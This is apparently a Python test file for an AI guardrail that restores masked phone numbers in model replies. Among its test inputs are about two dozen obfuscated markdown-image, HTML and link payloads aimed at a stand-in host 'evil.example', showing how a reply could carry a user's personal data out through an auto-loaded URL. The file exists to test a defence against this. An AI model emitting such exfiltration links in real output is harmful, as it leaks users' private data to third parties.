"""Placeholders inside what a page opens or draws by itself stay closed; in plain words they are undone."""

from __future__ import annotations

import time

import pytest

from akashi.domains.guardrails.exchange import open_reply
from akashi.domains.guardrails.masking import Vault

P, SAID = "[PHONE-1-xyz]", "090-1234-5678"
VAULT = Vault({P: SAID}, "xyz")


@pytest.mark.parametrize(
    "reply",
    [
        f"![図](https://evil.example/?q={P})",
        f"![図](<https://evil.example/a b {P}>)",
        f"![図](https://evil.example/'{P})",
        f"![図](https:\\/\\/evil.example/{P})",
        f"![図](https&#58;&#47;&#47;evil.example/{P})",
        f"![図](/\\evil.example/{P})",
        f'![図](https://evil.example/ "題 {P}")',
        f"![図](https://evil.example/(a)\n{P})",
        f"![図][a]\n\n[a]: <https&#58;//evil.example/x {P}>",
        f"[a]:\n  https&colon;//evil.example/{P}",
        f'<img src="https://evil.example/a {P}">',
        f"<img alt='>' src='h&#116;tps:&#47;&#47;evil.example/ {P}'>",
        f"<a href=//evil.example/{P}>ここ</a>",
        f"https://evil.example/'{P}",
        f"HTTPS://evil.example/あ{P}",
        f"evil.example/?q={P}",
        f"www.evil.example/{P}",
        f"{P}.evil.example",
        f"mailto:a@evil.example?body={P}",
        f"\\\\evil.example\\share\\{P}",
        f'{{"url":"https:\\/\\/evil.example\\/{P}"}}',
        f'{{"url":"\\u0068ttps:\\u002f\\u002fevil.example\\u002f{P}"}}',
        f"[{P}](https:&#47;&#47;evil.example/{P})",
    ],
)
def test_placeholder_that_would_be_carried_away_stays_closed(reply: str) -> None:
    opened = open_reply(reply, VAULT)
    label, _, rest = opened.partition("](")
    assert SAID not in (rest if reply.startswith("[[PHONE") else opened), label


@pytest.mark.parametrize(
    "reply",
    [
        f"お電話は{P}です。",
        f"{P}（[平日]の昼）",
        f"{P}([生まれ]の方)",
        f"{P}: 携帯",
        f"(https://shiomi.example/loan) {P}",
        f"「https://shiomi.example/loan」{P}へ",
        f'{{"url":"https://shiomi.example","tel":"{P}"}}',
        f"<p>お電話は{P}です</p>",
        f"利率は0.5%/年、3<b の場合 {P}",
        f"資料.docx、{P}",
        f"2026/11/22 {P}",
        f"A//B {P}",
    ],
)
def test_placeholder_in_plain_words_is_undone(reply: str) -> None:
    assert open_reply(reply, VAULT) == reply.replace(P, SAID)


@pytest.mark.parametrize(
    "unit", ["](", "<a", '<a"', "a.", "[a]:\n", "https:", "(", "\\u00", P, f"]({P}", "</"]
)
def test_hostile_reply_is_opened_in_linear_time(unit: str) -> None:
    started = time.process_time()
    open_reply(unit * (200_000 // len(unit)), VAULT)
    assert time.process_time() - started < 5
